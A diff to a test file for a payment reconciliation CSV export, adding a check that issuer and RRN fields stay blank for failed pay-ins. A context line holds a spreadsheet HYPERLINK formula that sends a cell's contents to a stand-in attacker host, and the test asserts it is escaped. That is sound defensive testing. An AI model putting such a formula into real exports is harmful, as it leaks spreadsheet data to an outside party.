@@ -46,4 +46,18 @@ describe('recon CSV and spreadsheet formulas (real PostgreSQL)', () => {
     // The formula with a comma and quotes stays one quoted cell.
     expect(body).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Refund"")"`);
   });
+
+  it('fills rrn and issuer only for a paid pay-in: empty for a failed one even when the acquirer named its issuer', async () => {
+    const { merchant } = await createMerchant(prisma);
+    const paidId = await insertPayin(prisma, merchant.id, 5_000_000n, 50_000n, 'PAID-1');
+    await prisma.payin.update({ where: { id: paidId }, data: { issuer: 'OVO' } });
+    const failedId = await insertPayin(prisma, merchant.id, 5_000_000n, 50_000n, 'FAILED-1');
+    await prisma.payin.update({ where: { id: failedId }, data: { status: 'failed', issuer: 'DANA', rrn: null, successAt: null, failureReason: 'Payment failed' } });
+
+    const rows = parse(await exportCsv(merchant.id), { columns: true }) as Record<string, string>[];
+    expect(rows.find((r) => r.merchantTrxId === 'PAID-1')).toMatchObject({ status: 'success', issuer: 'OVO', rrn: expect.stringMatching(/.+/) });
+    expect(rows.find((r) => r.merchantTrxId === 'FAILED-1')).toMatchObject({ status: 'failed', issuer: '', rrn: '', success_at: '' });
+    // The row keeps what the acquirer said.
+    expect((await prisma.payin.findUniqueOrThrow({ where: { id: failedId } })).issuer).toBe('DANA');
+  });
 });
